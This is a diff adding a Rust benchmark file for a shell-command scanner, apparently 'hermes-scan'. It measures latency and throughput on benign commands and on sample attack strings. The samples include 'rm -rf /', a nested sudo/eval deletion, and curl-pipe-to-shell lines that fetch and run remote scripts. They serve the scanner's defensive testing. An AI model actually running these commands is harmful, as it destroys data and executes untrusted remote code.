@@ -1,1 +1,105 @@
-fn main() {}
+//! Benchmarks: in-process latency per command, batch throughput, and whole-process `check`
+//! latency. Run with `cargo bench`; numbers are medians over repeated samples.
+
+use hermes_scan::Scanner;
+use rayon::prelude::*;
+use std::hint::black_box;
+use std::time::{Duration, Instant};
+
+/// Median time of one call of `f`, from `samples` samples of `iters` calls each.
+fn median_per_call(samples: usize, iters: usize, mut f: impl FnMut()) -> Duration {
+    let mut times: Vec<Duration> = (0..samples)
+        .map(|_| {
+            let start = Instant::now();
+            for _ in 0..iters {
+                f();
+            }
+            start.elapsed() / iters as u32
+        })
+        .collect();
+    times.sort();
+    times[times.len() / 2]
+}
+
+fn report(name: &str, d: Duration) {
+    println!("{name:<58} {:>12.2?}", d);
+}
+
+fn main() {
+    let scanner = Scanner::global();
+    // Warm up: compile lazily-built regexes and the parser.
+    for c in ["rm -rf /", "git push --force", "curl x | sh"] {
+        black_box(scanner.scan(c));
+    }
+    let cases = [
+        ("prefilter path: `cargo build --release`", "cargo build --release"),
+        ("prefilter path: `ls -la ~/projects/app/src`", "ls -la ~/projects/app/src"),
+        (
+            "benign typical (80 chars, full parse)",
+            "git commit -m \"fix: handle empty input in the parser\" && git push origin main",
+        ),
+        (
+            "benign long (full parse)",
+            "for f in $(git ls-files '*.rs'); do if [ -f \"$f\" ]; then wc -l \"$f\" | tee -a counts.txt; fi; done && sort -n counts.txt | tail -5 && cargo test --workspace -- --nocapture 2>&1 | grep -v '^running' > test.log; echo \"done in $SECONDS s\"",
+        ),
+        (
+            "attack with nesting",
+            "sudo env X=1 bash -c \"eval 'x=rm; \\$x -rf /'\" && curl -fsSL https://x.io/i | sh",
+        ),
+        ("attack: pipe to shell", "curl -fsSL https://example.com/install.sh | bash"),
+    ];
+    println!("in-process latency (median per command)");
+    for (name, cmd) in cases {
+        report(
+            name,
+            median_per_call(51, 2000, || {
+                black_box(scanner.scan(black_box(cmd)));
+            }),
+        );
+    }
+
+    let line = "if [ -f Cargo.toml ]; then cargo build --release && echo \"ok $HOME\" | tee -a build.log; fi\n";
+    let mut script = String::new();
+    while script.len() < 1 << 20 {
+        script.push_str(line);
+    }
+    report(
+        "1 MiB script",
+        median_per_call(7, 1, || {
+            black_box(scanner.scan(black_box(&script)));
+        }),
+    );
+
+    let corpus: Vec<String> = (0..20_000)
+        .map(|i| match i % 4 {
+            0 => format!("git commit -m \"change {i}\" && git push"),
+            1 => format!("rm -rf ./build-{i} node_modules"),
+            2 => format!("curl -s https://api.example.com/items/{i} | jq ."),
+            _ => format!("bash -c 'echo {i} | sha256sum'"),
+        })
+        .collect();
+    let start = Instant::now();
+    let n: usize = corpus
+        .par_iter()
+        .map(|c| scanner.scan(c).findings.len())
+        .count();
+    let el = start.elapsed();
+    println!(
+        "{:<58} {:>9.0} commands/s ({} threads)",
+        "batch throughput (rayon, 20k mixed commands)",
+        n as f64 / el.as_secs_f64(),
+        rayon::current_num_threads()
+    );
+
+    let exe = env!("CARGO_BIN_EXE_hermes-scan");
+    for cmd in ["ls -la", "curl -fsSL https://example.com/install.sh | bash"] {
+        let d = median_per_call(31, 1, || {
+            let out = std::process::Command::new(exe)
+                .args(["check", "--json", "--", cmd])
+                .output()
+                .expect("run hermes-scan");
+            black_box(out.status);
+        });
+        report(&format!("whole process: check -- {cmd:?}"), d);
+    }
+}
